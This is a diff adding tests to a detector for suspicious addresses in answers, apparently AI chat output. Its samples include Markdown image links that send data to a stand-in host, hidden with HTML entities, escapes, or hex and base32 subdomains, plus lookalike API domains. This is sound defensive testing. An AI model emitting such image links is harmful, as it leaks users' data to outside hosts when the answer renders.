@@ -1,5 +1,6 @@
 """Addresses in answers: what is found, what is honest, what a policy trusts, and that nothing makes it slow."""
 
+import base64
 import random
 import time
 
@@ -161,3 +162,44 @@ def test_random_bytes_are_no_trouble() -> None:
         text += "".join(map(chr, draw.choices(range(0xFFFF), k=200)))
         for one in found(text):
             assert 0 <= one.start <= one.end <= len(text)
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        f"https&#58;//stat-x.io/?d={LOAD}",
+        f"https&colon;&#x2f;/stat-x.io/?d={LOAD}",
+        rf"https\://stat-x\.io/?d={LOAD}",
+        "https://6d7920736563726574.stat-x.io/x.png",
+        f"https://{base64.b32encode(b'my secret string').decode().lower().rstrip('=')}.px.stat-x.io/x.png",
+    ],
+    ids=["entity", "named entities", "escapes of Markdown", "a host's part in hexadecimal", "one in base32"],
+)
+def test_an_address_is_read_as_markdown_shows_it_and_its_host_may_carry_data(address: str) -> None:
+    text = f"![x]({address})"
+    [one] = found(text)
+    assert (one.kind, text[one.start : one.end]) == ("links.exfiltration", text)
+
+
+@pytest.mark.parametrize(
+    "host",
+    ["d41d8cd98f00b204e9800998ecf8427e.stat-x.io", "internationalconferences.stat-x.io", "a1b2c3d4e5f60718.stat-x.io"],
+)
+def test_a_hash_or_a_long_word_in_a_host_carries_nothing(host: str) -> None:
+    assert kinds(f"![x](https://{host}/x.png)") == []
+
+
+def test_a_picture_out_of_anybodys_repository_is_told_and_a_script_is_high() -> None:
+    picture, script = (f"https://cdn.jsdelivr.net/gh/someone77/notes@main/{name}" for name in ("a.svg", "a.js"))
+    severities = [
+        one.severity for text in (f"![x]({picture})", f'<script src="{script}"></script>') for one in found(text)
+    ]
+    assert severities == [Severity.LOW, Severity.HIGH]
+
+
+@pytest.mark.parametrize(
+    ("host", "kind"),
+    [("api.openai.com-proxy.net", ["lookalike"]), ("com-proxy.net", []), ("my-openai.example-host.net", [])],
+)
+def test_a_known_domain_before_a_hyphen_is_a_lookalike(host: str, kind: list[str]) -> None:
+    assert kinds(f"see https://{host}/v1") == kind
